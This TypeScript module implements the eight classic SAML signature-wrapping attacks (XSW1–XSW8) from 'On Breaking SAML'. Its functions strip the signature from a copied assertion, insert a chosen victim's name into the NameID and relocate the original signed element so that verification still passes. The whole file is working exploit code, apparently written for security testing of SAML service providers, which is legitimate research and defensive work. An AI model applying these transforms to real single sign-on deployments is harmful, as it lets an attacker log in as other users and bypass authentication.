/**
 * The eight classic wrappings of signatures in SAML (Somorovsky et al., “On Breaking SAML”): an honest, signed document
 * is moved to where its signature still finds it, and a forged assertion takes its place.
 */

const assertionOf = (xml: string): string => /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(xml)?.[0] ?? ''
const signatureIn = (xml: string): string => /<ds:Signature [\s\S]*?<\/ds:Signature>/.exec(xml)?.[0] ?? ''
const idOf = (xml: string): string => /\bID="([^"]+)"/.exec(xml)?.[1] ?? ''
const withId = (xml: string, id: string): string => xml.replace(/\bID="[^"]+"/, `ID="${id}"`)
const intoSignature = (signature: string, inner: string): string =>
  signature.replace('</ds:Signature>', `${inner}</ds:Signature>`)

/** The assertion without its signature, in the victim’s name. */
const forged = (assertion: string, victim: string, id = '_evil'): string =>
  withId(assertion.replace(signatureIn(assertion), ''), id).replace(
    /(<saml:NameID [^>]*>)[^<]*/,
    `$1${victim}`,
  )

interface Wrapping {
  /** What the provider has signed. */
  signs: 'assertion' | 'both'
  wrap: (xml: string, victim: string) => string
}

/** Replaces the whole response; its own signature comes before that of the assertion. */
const wrapResponse = (
  xml: string,
  victim: string,
  place: (original: string, signature: string) => string,
): string => {
  const signature = signatureIn(xml)
  const original = xml.replace(signature, '')
  const assertion = assertionOf(xml)
  const evil = withId(xml, '_evil-response').replace(assertion, forged(assertion, victim))
  return evil.replace(signature, place(original, signature))
}

const wrapAssertion = (
  xml: string,
  victim: string,
  place: (parts: { evil: string; original: string; bare: string; signature: string }) => string,
): string => {
  const original = assertionOf(xml)
  const signature = signatureIn(original)
  const bare = original.replace(signature, '')
  return xml.replace(original, place({ evil: forged(original, victim), original, bare, signature }))
}

const withSignature = (evil: string, signature: string): string =>
  evil.replace('</saml:Issuer>', `</saml:Issuer>${signature}`)

export const signatureWrappings: Record<string, Wrapping> = {
  XSW1: {
    signs: 'both',
    wrap: (xml, victim) =>
      wrapResponse(xml, victim, (original, signature) => intoSignature(signature, original)),
  },
  XSW2: {
    signs: 'both',
    wrap: (xml, victim) => wrapResponse(xml, victim, (original, signature) => original + signature),
  },
  XSW3: {
    signs: 'assertion',
    wrap: (xml, victim) => wrapAssertion(xml, victim, ({ evil, original }) => evil + original),
  },
  XSW4: {
    signs: 'assertion',
    wrap: (xml, victim) =>
      wrapAssertion(xml, victim, ({ evil, original }) =>
        evil.replace('</saml:Assertion>', `${original}</saml:Assertion>`),
      ),
  },
  XSW5: {
    signs: 'assertion',
    wrap: (xml, victim) =>
      wrapAssertion(xml, victim, ({ evil, bare, signature }) => withSignature(evil, signature) + bare),
  },
  XSW6: {
    signs: 'assertion',
    wrap: (xml, victim) =>
      wrapAssertion(xml, victim, ({ evil, bare, signature }) =>
        withSignature(evil, intoSignature(signature, bare)),
      ),
  },
  XSW7: {
    signs: 'assertion',
    wrap: (xml, victim) =>
      wrapAssertion(
        xml,
        victim,
        ({ evil, original }) =>
          `<samlp:Extensions>${withId(evil, idOf(original))}</samlp:Extensions>${original}`,
      ),
  },
  XSW8: {
    signs: 'assertion',
    wrap: (xml, victim) =>
      wrapAssertion(xml, victim, ({ evil, bare, signature }) =>
        withSignature(withId(evil, idOf(bare)), intoSignature(signature, `<ds:Object>${bare}</ds:Object>`)),
      ),
  },
}
